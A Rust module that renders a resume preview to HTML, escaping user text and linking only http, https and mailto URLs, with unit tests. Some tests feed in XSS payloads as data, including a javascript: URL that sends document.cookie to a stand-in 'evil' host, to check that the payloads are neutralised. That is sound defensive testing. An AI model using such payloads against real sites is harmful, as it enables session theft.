//! Preview renderer. Maps the document to ordered visual blocks.
//!
//! Block and entry order mirror the document exactly. Empty lists produce no block;
//! optional scalars (links, summary, description, GPA) are omitted when blank.

use ammonia::{clean_text, Url};
use serde::{Deserialize, Serialize};

use crate::models::resume::{Document, EntryId};
use crate::navigator::section::Section;

const PRESENT: &str = "Present";

/// Schemes a header link may use to become a clickable anchor.
const LINK_SCHEMES: [&str; 3] = ["http", "https", "mailto"];

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct PreviewLink {
    pub label: String,
    pub href: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct PreviewHeader {
    pub name: String,
    pub title: String,
    /// Email, phone and location slots, always present.
    pub contact: Vec<String>,
    pub links: Vec<PreviewLink>,
    pub summary: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct PreviewItem {
    pub entry_id: EntryId,
    pub heading: String,
    /// Secondary line, e.g. `Engineer • 2020 - Present`.
    pub meta: Option<String>,
    /// Plain paragraphs rendered under the meta line.
    pub lines: Vec<String>,
    pub bullets: Vec<String>,
    /// Inline chips (skills).
    pub tags: Vec<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct PreviewBlock {
    pub section: Section,
    pub title: String,
    pub items: Vec<PreviewItem>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Preview {
    pub header: PreviewHeader,
    pub blocks: Vec<PreviewBlock>,
}

fn date_range(start: &str, end: &str) -> String {
    let end = if end.is_empty() { PRESENT } else { end };
    format!("{start} - {end}")
}

fn non_empty(s: &str) -> Option<String> {
    (!s.is_empty()).then(|| s.to_string())
}

/// Absolute URL with an allowed scheme. Anything else is shown as text, never linked.
fn safe_href(href: &str) -> Option<Url> {
    Url::parse(href)
        .ok()
        .filter(|url| LINK_SCHEMES.contains(&url.scheme()))
}

fn item(entry_id: EntryId, heading: &str) -> PreviewItem {
    PreviewItem {
        entry_id,
        heading: heading.to_string(),
        meta: None,
        lines: Vec::new(),
        bullets: Vec::new(),
        tags: Vec::new(),
    }
}

pub fn render_preview(doc: &Document) -> Preview {
    let p = &doc.personal;
    let links = [
        ("LinkedIn", &p.linkedin),
        ("GitHub", &p.github),
        ("Portfolio", &p.portfolio),
    ]
    .into_iter()
    .filter(|(_, href)| !href.is_empty())
    .map(|(label, href)| PreviewLink {
        label: label.to_string(),
        href: href.clone(),
    })
    .collect();

    let header = PreviewHeader {
        name: p.name.clone(),
        title: p.title.clone(),
        contact: vec![p.email.clone(), p.phone.clone(), p.location.clone()],
        links,
        summary: non_empty(&p.summary),
    };

    let mut blocks = Vec::new();

    if !doc.experience.is_empty() {
        let items = doc
            .experience
            .iter()
            .map(|e| PreviewItem {
                meta: Some(format!(
                    "{} • {}",
                    e.position,
                    date_range(&e.start_date, &e.end_date)
                )),
                lines: non_empty(&e.description).into_iter().collect(),
                bullets: e.bullets.clone(),
                ..item(e.id, &e.company)
            })
            .collect();
        blocks.push(PreviewBlock {
            section: Section::Experience,
            title: "Professional Experience".to_string(),
            items,
        });
    }

    if !doc.education.is_empty() {
        let items = doc
            .education
            .iter()
            .map(|e| PreviewItem {
                meta: Some(format!(
                    "{} • {}",
                    e.degree,
                    date_range(&e.start_date, &e.end_date)
                )),
                lines: non_empty(&e.gpa)
                    .map(|gpa| format!("GPA: {gpa}"))
                    .into_iter()
                    .collect(),
                ..item(e.id, &e.school)
            })
            .collect();
        blocks.push(PreviewBlock {
            section: Section::Education,
            title: "Education".to_string(),
            items,
        });
    }

    if !doc.skills.is_empty() {
        let items = doc
            .skills
            .iter()
            .map(|c| PreviewItem {
                tags: c.items.clone(),
                ..item(c.id, &c.category)
            })
            .collect();
        blocks.push(PreviewBlock {
            section: Section::Skills,
            title: "Skills".to_string(),
            items,
        });
    }

    if !doc.certifications.is_empty() {
        let items = doc
            .certifications
            .iter()
            .map(|c| PreviewItem {
                lines: vec![c.issuer.clone(), c.date.clone()],
                ..item(c.id, &c.name)
            })
            .collect();
        blocks.push(PreviewBlock {
            section: Section::Certifications,
            title: "Certifications".to_string(),
            items,
        });
    }

    if !doc.references.is_empty() {
        let items = doc
            .references
            .iter()
            .map(|r| PreviewItem {
                lines: vec![
                    r.position.clone(),
                    r.company.clone(),
                    r.email.clone(),
                    r.phone.clone(),
                ],
                ..item(r.id, &r.name)
            })
            .collect();
        blocks.push(PreviewBlock {
            section: Section::References,
            title: "References".to_string(),
            items,
        });
    }

    Preview { header, blocks }
}

impl Preview {
    /// Rough count of rendered text lines, used to size captured snapshots.
    pub fn line_count(&self) -> usize {
        let header = 3
            + usize::from(!self.header.links.is_empty())
            + usize::from(self.header.summary.is_some());
        let body: usize = self
            .blocks
            .iter()
            .map(|b| {
                1 + b
                    .items
                    .iter()
                    .map(|i| {
                        1 + usize::from(i.meta.is_some())
                            + i.lines.len()
                            + i.bullets.len()
                            + usize::from(!i.tags.is_empty())
                    })
                    .sum::<usize>()
            })
            .sum();
        header + body
    }

    /// HTML fragment of the preview. Every user-supplied string is escaped.
    pub fn to_html(&self) -> String {
        let h = &self.header;
        let mut html =
            String::from("<div class=\"resume-preview\">\n<header class=\"resume-header\">\n");
        html.push_str(&format!("<h1>{}</h1>\n", clean_text(&h.name)));
        html.push_str(&format!("<div class=\"title\">{}</div>\n", clean_text(&h.title)));

        let contact: Vec<String> = h.contact.iter().map(|c| clean_text(c)).collect();
        html.push_str(&format!(
            "<div class=\"contact-info\">{}</div>\n",
            contact.join(" | ")
        ));

        if !h.links.is_empty() {
            html.push_str("<div class=\"social-links\">");
            for link in &h.links {
                match safe_href(&link.href) {
                    Some(url) => html.push_str(&format!(
                        "<a href=\"{}\" target=\"_blank\" rel=\"noopener noreferrer\">{}</a>",
                        clean_text(url.as_str()),
                        clean_text(&link.label)
                    )),
                    None => html.push_str(&format!(
                        "<span class=\"link-text\">{}: {}</span>",
                        clean_text(&link.label),
                        clean_text(&link.href)
                    )),
                }
            }
            html.push_str("</div>\n");
        }
        if let Some(summary) = &h.summary {
            html.push_str(&format!("<p class=\"summary\">{}</p>\n", clean_text(summary)));
        }
        html.push_str("</header>\n");

        for block in &self.blocks {
            html.push_str(&format!(
                "<section class=\"resume-section\" id=\"preview-{}\">\n<h2>{}</h2>\n",
                block.section.id(),
                clean_text(&block.title)
            ));
            for item in &block.items {
                html.push_str(&format!(
                    "<div class=\"{}-item\">\n<h3>{}</h3>\n",
                    block.section.id(),
                    clean_text(&item.heading)
                ));
                if let Some(meta) = &item.meta {
                    html.push_str(&format!("<div class=\"meta\">{}</div>\n", clean_text(meta)));
                }
                for line in &item.lines {
                    html.push_str(&format!("<p>{}</p>\n", clean_text(line)));
                }
                if !item.bullets.is_empty() {
                    html.push_str("<ul>\n");
                    for bullet in &item.bullets {
                        html.push_str(&format!("<li>{}</li>\n", clean_text(bullet)));
                    }
                    html.push_str("</ul>\n");
                }
                if !item.tags.is_empty() {
                    html.push_str("<div class=\"skills-list\">");
                    for tag in &item.tags {
                        html.push_str(&format!(
                            "<span class=\"skill-item\">{}</span>",
                            clean_text(tag)
                        ));
                    }
                    html.push_str("</div>\n");
                }
                html.push_str("</div>\n");
            }
            html.push_str("</section>\n");
        }
        html.push_str("</div>\n");
        html
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::editor::fields::{EducationField, ExperienceField, PersonalField};
    use crate::editor::ops;

    fn sections(preview: &Preview) -> Vec<Section> {
        preview.blocks.iter().map(|b| b.section).collect()
    }

    #[test]
    fn test_default_document_renders_experience_and_skills() {
        let preview = render_preview(&Document::default());
        assert_eq!(sections(&preview), vec![Section::Experience, Section::Skills]);
        assert!(preview.header.links.is_empty());
        assert!(preview.header.summary.is_none());
        assert_eq!(preview.header.contact.len(), 3);
    }

    #[test]
    fn test_empty_end_date_renders_present() {
        let doc = ops::update_experience_field(
            &Document::default(),
            1,
            ExperienceField::Position,
            "Engineer",
        );
        let doc = ops::update_experience_field(&doc, 1, ExperienceField::StartDate, "2020");
        let preview = render_preview(&doc);
        assert_eq!(
            preview.blocks[0].items[0].meta.as_deref(),
            Some("Engineer • 2020 - Present")
        );
    }

    #[test]
    fn test_entry_order_is_preserved() {
        let mut doc = Document::default();
        for school in ["MIT", "ETH", "KTH"] {
            doc = ops::add_education(&doc);
            let id = doc.education.last().unwrap().id;
            doc = ops::update_education_field(&doc, id, EducationField::School, school);
        }
        let preview = render_preview(&doc);
        let block = preview
            .blocks
            .iter()
            .find(|b| b.section == Section::Education)
            .unwrap();
        let headings: Vec<_> = block.items.iter().map(|i| i.heading.as_str()).collect();
        assert_eq!(headings, vec!["MIT", "ETH", "KTH"]);
    }

    #[test]
    fn test_blocks_follow_section_order() {
        let doc = ops::add_reference(&ops::add_certification(&ops::add_education(
            &Document::default(),
        )));
        assert_eq!(
            sections(&render_preview(&doc)),
            vec![
                Section::Experience,
                Section::Education,
                Section::Skills,
                Section::Certifications,
                Section::References
            ]
        );
    }

    #[test]
    fn test_links_only_when_present() {
        let doc = ops::update_personal_field(
            &Document::default(),
            PersonalField::Github,
            "https://github.com/ada",
        );
        let preview = render_preview(&doc);
        assert_eq!(preview.header.links.len(), 1);
        assert_eq!(preview.header.links[0].label, "GitHub");
    }

    #[test]
    fn test_html_escapes_user_text() {
        let doc = ops::update_personal_field(
            &Document::default(),
            PersonalField::Name,
            "<script>alert(1)</script>",
        );
        let html = render_preview(&doc).to_html();
        assert!(!html.contains("<script>"));
        assert!(html.contains("&lt;script&gt;"));
    }

    #[test]
    fn test_script_urls_are_never_linked() {
        for href in [
            "javascript:fetch('//evil/'+document.cookie)",
            " JavaScript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
        ] {
            let doc = ops::update_personal_field(&Document::default(), PersonalField::Linkedin, href);
            let html = render_preview(&doc).to_html();
            assert!(!html.contains("<a "), "linked {href}");
            assert!(!html.to_lowercase().contains("href=\"javascript:"));
            assert!(html.contains("<span class=\"link-text\">LinkedIn: "));
        }
    }

    #[test]
    fn test_web_and_mail_links_open_in_new_tab() {
        let doc = ops::update_personal_field(
            &Document::default(),
            PersonalField::Portfolio,
            "https://ada.dev/work",
        );
        let doc = ops::update_personal_field(&doc, PersonalField::Github, "mailto:ada@example.com");
        let html = render_preview(&doc).to_html();
        assert_eq!(html.matches("target=\"_blank\"").count(), 2);
        assert!(html.contains("href=\"https:&#47;&#47;ada.dev&#47;work\""));
    }

    #[test]
    fn test_bare_host_is_shown_as_text() {
        let doc = ops::update_personal_field(
            &Document::default(),
            PersonalField::Github,
            "github.com/ada",
        );
        let html = render_preview(&doc).to_html();
        assert!(!html.contains("<a "));
        assert!(html.contains("GitHub: github.com&#47;ada"));
    }

    #[test]
    fn test_line_count_grows_with_bullets() {
        let doc = Document::default();
        let before = render_preview(&doc).line_count();
        let doc = ops::add_bullet(&ops::add_bullet(&doc, 1), 1);
        assert_eq!(render_preview(&doc).line_count(), before + 2);
    }
}
